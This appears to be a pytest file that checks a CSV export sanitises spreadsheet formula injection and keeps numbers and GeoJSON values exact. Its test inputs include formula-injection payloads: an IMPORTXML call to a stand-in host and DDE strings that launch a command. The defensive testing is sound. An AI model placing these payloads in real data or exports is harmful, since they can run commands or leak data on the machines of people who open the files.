"""The CSV export neutralises spreadsheet formulas; numbers and GeoJSON stay exact."""

from __future__ import annotations

import csv
import io
import json

import pytest

from geo.schema import EXPORT_COLUMNS
from geo.view.export import FORMULA_STARTS, spreadsheet_safe, to_csv, to_geojson
from tests.conftest import make_events

FORMULAS = [
    '=IMPORTXML("http://198.51.100.7/x","//a")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("formula", FORMULAS)
def test_text_cells_that_start_a_formula_get_a_quote(formula):
    frame = make_events(
        [
            {
                "title": formula,
                "source": formula,
                "reported_by": formula,
                "sentence": formula,
                "mention": formula,
                "place": formula,
                "url": formula,
                "actors": formula,
            }
        ]
    )
    written = rows(to_csv(frame))
    assert len(written) == 1  # a carriage return in a cell does not start a new row
    row = written[0]
    for column in ("title", "source", "reported_by", "sentence", "mention", "place", "url"):
        # the store's newline for a carriage return (the one change besides the quote)
        assert row[column] == "'" + formula.replace("\r", "\n"), column
        assert not row[column].startswith(FORMULA_STARTS)


def test_numbers_stay_numbers_and_plain_text_is_unchanged():
    frame = make_events(
        [
            {
                "latitude": -33.9249,
                "longitude": -3.7038,
                "killed": 12,
                "title": "Clashes - and a ceasefire = peace?",
                "source": "'quoted already",
                "sentence": "A plain sentence, 50% of it @ the end.",
            }
        ]
    )
    row = rows(to_csv(frame))[0]
    assert list(row) == EXPORT_COLUMNS
    assert row["latitude"] == "-33.9249" and row["longitude"] == "-3.7038"
    assert float(row["longitude"]) == -3.7038
    assert row["killed"] == "12"
    assert row["report_count"] == "1"
    assert row["title"] == "Clashes - and a ceasefire = peace?"
    assert row["source"] == "'quoted already"
    assert row["sentence"] == "A plain sentence, 50% of it @ the end."
    assert row["event_date"] == "2016-11-08" and row["approximate"] == "false"


def test_missing_text_stays_empty():
    frame = make_events([{"cited_sources": None, "actors": None}])
    row = rows(to_csv(frame))[0]
    assert row["cited_sources"] == "" and row["actors"] == ""


def test_geojson_keeps_formulas_exact():
    frame = make_events([{"title": formula, "longitude": -3.7} for formula in FORMULAS])
    features = json.loads(to_geojson(frame))["features"]
    assert [f["properties"]["title"] for f in features] == FORMULAS
    assert features[0]["geometry"]["coordinates"][0] == -3.7


def test_spreadsheet_safe_leaves_other_values_alone():
    assert spreadsheet_safe(-3.7) == -3.7
    assert spreadsheet_safe(None) is None
    assert spreadsheet_safe("") == ""
    assert spreadsheet_safe("Aleppo") == "Aleppo"
    assert spreadsheet_safe("=1") == "'=1"
